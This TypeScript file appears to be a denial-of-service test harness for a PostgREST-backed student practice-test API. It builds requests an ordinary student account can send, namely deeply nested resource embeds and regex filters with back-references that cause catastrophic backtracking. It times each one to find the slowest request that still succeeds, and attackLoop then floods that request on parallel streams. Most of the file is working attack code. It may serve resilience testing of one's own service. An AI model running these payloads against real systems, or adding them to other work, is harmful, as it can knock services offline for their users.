import type { Call } from "./http"

/**
 * The worst request one student can still send. Each candidate is a request
 * an entitled student may make; the ones the API now refuses (deep
 * embedding) are kept to show they fail fast. A regular expression with
 * back-references takes time exponential in its groups, and PostgREST lets a
 * client filter any readable text column (or a set-returning RPC's result)
 * with one; the search raises the group count until the statement timeout
 * stops it, and keeps the slowest request that still succeeds.
 */
export type Candidate = { name: string; run: () => Promise<Call> }

/** `(.*)` k times, then their back-references, then a character that makes the match fail late. */
export const backtracking = (k: number, tail = "x") => {
  const groups = Array.from({ length: k }, () => "(.*)").join("")
  const refs = Array.from({ length: k }, (_, i) => `\\${i + 1}`).join("")
  return encodeURIComponent(`${groups}${refs}${tail}`)
}

export function candidates(opts: {
  call: (path: string, init?: { method?: string; body?: unknown; timeoutMs?: number }) => Promise<Call>
  sessionId: string
}): Candidate[] {
  const { call, sessionId } = opts
  const get = (name: string, path: string): Candidate => ({ name, run: () => call(path, { timeoutMs: 12_000 }) })
  const post = (name: string, fn: string, body: unknown = {}): Candidate => ({
    name,
    run: () => call(`rpc/${fn}`, { method: "POST", body, timeoutMs: 12_000 }),
  })
  const nest = (depth: number) => {
    let s = "id"
    for (let i = 0; i < depth; i++) s = `id,test_modules(id,practice_tests(${s}))`
    return s
  }
  return [
    get(
      "reported deep embed of questions",
      "questions?select=id,practice_tests(id,questions(id,practice_tests(id,questions(id,passage))))",
    ),
    get("practice_tests <-> test_modules x9", `practice_tests?select=${nest(9)}`),
    get("practice_tests, all columns", "practice_tests?select=*"),
    get("own answers, all", "user_answers?select=*"),
    get("own analytics, all", "analytics?select=*"),
    get("session questions (RPC)", `rpc/get_session_questions?p_session_id=${sessionId}`),
    post("review stats (RPC)", "get_review_stats"),
    post("test history (RPC)", "get_test_history"),
    ...[3, 4, 5, 6].map((k) =>
      get(`regex x${k} on practice_tests.description`, `practice_tests?select=id&description=match.${backtracking(k)}`),
    ),
    ...[1, 2, 3].map((k) =>
      get(
        `regex x${k} on get_session_questions passages`,
        `rpc/get_session_questions?p_session_id=${sessionId}&passage=match.${backtracking(k)}`,
      ),
    ),
  ]
}

export type Measured = { name: string; status: number; ms: number; run: () => Promise<Call> }

/** Runs each candidate once, in turn; the slowest one that succeeded is the attack. */
export async function findWorst(list: Candidate[]) {
  const measured: Measured[] = []
  for (const c of list) {
    const r = await c.run()
    measured.push({ name: c.name, status: r.status, ms: r.ms, run: c.run })
  }
  const ok = measured.filter((m) => m.status >= 200 && m.status < 300)
  const worst = ok.reduce<Measured | null>((w, m) => (!w || m.ms > w.ms ? m : w), null)
  return { measured, worst }
}

/** Sends `request` back to back on `parallel` streams until `stop()` says so; every call's status and time. */
export async function attackLoop(request: () => Promise<Call>, parallel: number, stop: () => boolean) {
  const calls: { status: number; ms: number }[] = []
  await Promise.all(
    Array.from({ length: parallel }, async () => {
      while (!stop()) {
        const r = await request()
        calls.push({ status: r.status, ms: r.ms })
      }
    }),
  )
  return calls
}
